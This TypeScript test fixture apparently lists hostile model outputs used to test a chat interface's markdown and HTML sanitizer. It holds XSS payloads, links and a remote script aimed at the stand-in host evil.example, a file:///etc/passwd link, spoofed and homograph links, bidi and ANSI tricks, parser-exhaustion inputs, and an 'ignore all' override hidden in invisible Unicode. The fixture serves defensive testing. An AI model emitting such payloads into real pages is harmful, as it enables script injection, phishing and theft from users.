/** Things that models were made to write so that a page does what it should not. */
export const hostileAnswers: Readonly<Record<string, string>> = {
  script: '<script>window.pwned = 1</script>\n\nText <script src="https://evil.example/x.js"></script>',
  handlers: '<img src=x onerror="window.pwned=1"> <b onclick="window.pwned=1" onmouseover=window.pwned=1>b</b>',
  'handlers in tags that are understood': '<details open ontoggle="window.pwned=1"><summary>s</summary>x</details>',
  'javascript links':
    '[a](javascript:window.pwned=1) [b](JaVaScRiPt:window.pwned=1) [c](&#106;avascript:window.pwned=1) <javascript:alert(1)>',
  'data links': '[a](data:text/html,<script>window.pwned=1</script>) ![b](data:image/svg+xml,<svg onload=alert(1)>)',
  'other addresses':
    '[a](file:///etc/passwd) [b](vbscript:x) [c](/sanjha/v1/chats) [d](//evil.example/x) [e](https://user:pw@evil.example/)',
  pictures:
    '![cat](https://evil.example/cat.png) <img src="https://evil.example/b.png"> [![in](https://evil.example/c.png)](https://evil.example/d)',
  svg: '<svg onload="window.pwned=1"><script>window.pwned=1</script><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
  mathml:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;"></table></mtext></math>\n\n' +
    '<math href="javascript:window.pwned=1">click</math>',
  'formulas that reach out':
    '$\\href{javascript:window.pwned=1}{x}$ and $\\url{https://evil.example}$ and $$\\includegraphics{https://evil.example/x.png} \\class{chat}{y} \\style{color:red}{z} \\htmlId{content}{w}$$',
  'a formula without end': `$$${'\\def\\a{\\a\\a}\\a'.repeat(10)}$$`,
  frames:
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example"><base href="https://evil.example/">',
  forms:
    '<form action="https://evil.example"><input name=q autofocus onfocus=window.pwned=1><button formaction="javascript:window.pwned=1">Send</button></form><textarea>',
  styles:
    '<style>body{display:none;background:url(https://evil.example/x)}</style><p style="position:fixed;inset:0;background:url(https://evil.example/y)">covers</p><link rel=stylesheet href=https://evil.example/z.css>',
  'names that are taken':
    '<p id="content" class="chat-composer">x</p><a name="getElementById">y</a><div id="lab">z</div>',
  'half a tag': '<div><p><b><i>never closed <table><tr><td>',
  'tags in code':
    '`<script>window.pwned=1</script>`\n\n```html\n<script>window.pwned=1</script>\n<img src=x onerror=window.pwned=1>\n```',
  'a fence without end': '```js\nwindow.pwned = 1 // </code></pre><script>window.pwned=1</script>',
  'a language that is none': '```"><img src=x onerror=window.pwned=1>\ncode\n```',
  bidi: 'access \u202e txt.exe \u2066 hidden \u2069 `if (admin\u202e } \u2066// only admins\u2069 \u2066{`',
  ansi: '\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J \x00 \x08\x08\x08',
  'hidden words': `Hi${[...'ignore all'].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join('')}`,
  'a link that lies': '[https://bank.example](https://evil.example/login) [xn](https://аррӏе.example/)',
  'a wide table': `|${' a |'.repeat(500)}\n|${'-|'.repeat(500)}\n|${' b |'.repeat(500)}`,
  'a long table': `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(2000)}`,
  'deep nesting': `${'> '.repeat(500)}x\n\n${'- '.repeat(500)}y\n\n${'<div>'.repeat(2000)}z\n\n${'['.repeat(2000)}`,
  emphasis: `${'*a **b '.repeat(3000)}`,
  'a line of a megabyte': 'x'.repeat(1 << 20),
  comments:
    '<!-- --><img src=x onerror=window.pwned=1> <!--><script>window.pwned=1</script>--> <![CDATA[<script>window.pwned=1</script>]]> <?php x ?>',
  mutations:
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript><template><script>window.pwned=1</script></template><select><option><style></option></select><b>]]>',
  definitions:
    '[__proto__]: https://evil.example\n[constructor]: javascript:window.pwned=1\n\n[__proto__] [constructor] [x][constructor]',
}
